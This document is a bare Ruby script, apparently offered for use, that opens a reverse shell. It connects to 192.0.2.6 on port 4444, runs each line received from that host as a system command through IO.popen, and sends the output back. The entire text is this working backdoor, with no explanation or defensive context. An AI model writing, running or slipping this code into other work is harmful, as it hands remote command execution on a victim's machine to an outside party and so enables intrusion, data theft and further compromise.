require 'socket'
c = TCPSocket.new('192.0.2.6', 4444)
while (l = c.gets)
  IO.popen(l, 'r') { |io| c.print io.read }
end
